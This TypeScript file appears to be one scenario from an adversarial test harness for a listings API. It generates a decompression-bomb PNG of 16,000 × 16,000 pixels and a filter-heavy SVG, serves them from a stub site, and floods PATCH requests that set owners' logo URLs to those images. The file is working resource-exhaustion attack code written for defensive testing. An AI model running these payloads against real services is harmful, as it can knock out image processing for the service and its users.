import { crc32, deflateSync } from "node:zlib";
import type { Attack } from "../stranger.ts";

/** A picture of so many pixels, all of one colour: small on the wire and large when it is drawn. */
function png(width: number, height: number): Buffer {
  const chunk = (type: string, data: Buffer): Buffer => {
    const body = Buffer.concat([Buffer.from(type), data]);
    const [size, sum] = [Buffer.alloc(4), Buffer.alloc(4)];
    size.writeUInt32BE(data.length);
    sum.writeUInt32BE(crc32(body));
    return Buffer.concat([size, body, sum]);
  };
  const head = Buffer.alloc(13);
  head.writeUInt32BE(width, 0);
  head.writeUInt32BE(height, 4);
  head.set([1, 0, 0, 0, 0], 8);
  const rows = deflateSync(Buffer.alloc((Math.ceil(width / 8) + 1) * height));
  return Buffer.concat([
    Buffer.from([137, 80, 78, 71, 13, 10, 26, 10]),
    chunk("IHDR", head),
    chunk("IDAT", rows),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

const huge = png(16_000, 16_000);
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9000" height="9000">${'<g filter="url(#a)"><filter id="a"><feGaussianBlur stdDeviation="900"/></filter><rect width="9000" height="9000"/></g>'.repeat(50)}</svg>`;

export const ownedPictures: Attack = {
  title: "Logos and pictures of 16,000 × 16,000 pixels, and SVG that is hard to draw, set by 40 owners",
  website(req, res) {
    const isSvg = req.url?.includes("svg");
    res.writeHead(200, { "content-type": isSvg ? "image/svg+xml" : "image/png" }).end(isSvg ? svg : huge);
  },
  run: ({ stage: { strangers, siteHosts }, flood, send }) =>
    flood(8, async (nth) => {
      const { key, listingId } = strangers[nth % strangers.length]!;
      const host = siteHosts[nth % siteHosts.length];
      await send({
        method: "PATCH",
        path: `/api/v1/me/listings/${listingId}`,
        headers: { authorization: `Bearer ${key}`, "content-type": "application/json" },
        body: JSON.stringify({ fields: { logo_url: `https://${host}/${nth}.${nth % 2 ? "svg" : "png"}` } }),
      });
    }),
};
